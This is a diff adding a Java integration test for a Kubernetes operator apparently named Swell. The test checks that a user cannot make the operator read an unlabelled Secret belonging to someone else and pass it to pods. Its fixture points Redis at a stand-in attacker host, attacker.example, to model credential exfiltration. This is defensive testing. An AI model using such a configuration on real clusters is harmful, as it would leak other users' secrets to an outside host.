@@ -125,6 +125,74 @@ class ServerSideApplyIT {
   }
 
   @Test
+  void aSecretItsOwnerDidNotLabelIsNeitherReadNorHandedToThePods() {
+    // a user who may create a ScalableService but not read Secrets names someone else's
+    client
+        .resource(
+            new SecretBuilder()
+                .withNewMetadata()
+                .withName("not-for-swell")
+                .withNamespace(NS)
+                .endMetadata()
+                .withStringData(Map.of("password", "s3cret"))
+                .build())
+        .create();
+    apply(
+        "deputy",
+        """
+        image: swell/sample-app:0.1.0
+        redis: {mode: External, external: {url: "redis://attacker.example:6379", passwordSecretRef: {name: not-for-swell, key: password}}}
+        worker: {queue: {key: jobs}}
+        """);
+    await()
+        .atMost(Duration.ofSeconds(30))
+        .untilAsserted(
+            () ->
+                assertThat(get(ScalableService.class, "deputy").getStatus().conditions)
+                    .filteredOn(c -> c.getType().equals("RedisReady"))
+                    .singleElement()
+                    .satisfies(
+                        c -> {
+                          assertThat(c.getReason()).isEqualTo("SecretNotAllowed");
+                          assertThat(c.getMessage())
+                              .contains("not-for-swell", "swell.dev/redis-password=true");
+                        }));
+    assertThat(SCALING.tracked.keySet())
+        .as("no loop reads the queue with it")
+        .noneMatch(id -> id.getName().equals("deputy"));
+    Deployment worker = get(Deployment.class, "deputy-worker");
+    assertThat(worker.getSpec().getTemplate().getSpec().getContainers().get(0).getEnv())
+        .as("nor do the pods get it")
+        .noneMatch(e -> e.getName().equals("REDIS_PASSWORD"));
+
+    // its owner allows Swell: the pods get it, and the queue is read
+    client
+        .secrets()
+        .inNamespace(NS)
+        .withName("not-for-swell")
+        .edit(
+            sec -> {
+              sec.getMetadata().setLabels(Map.of("swell.dev/redis-password", "true"));
+              return sec;
+            });
+    await()
+        .atMost(Duration.ofSeconds(40))
+        .untilAsserted(
+            () -> {
+              assertThat(SCALING.tracked.keySet()).anyMatch(id -> id.getName().equals("deputy"));
+              assertThat(
+                      get(Deployment.class, "deputy-worker")
+                          .getSpec()
+                          .getTemplate()
+                          .getSpec()
+                          .getContainers()
+                          .get(0)
+                          .getEnv())
+                  .anyMatch(e -> e.getName().equals("REDIS_PASSWORD"));
+            });
+  }
+
+  @Test
   void anObjectSwellDidNotMakeIsNeverTakenOverNorDeleted() {
     // someone's own Secret that happens to have the name Swell would give the managed Redis' one,
     // even with Swell's labels copied onto it
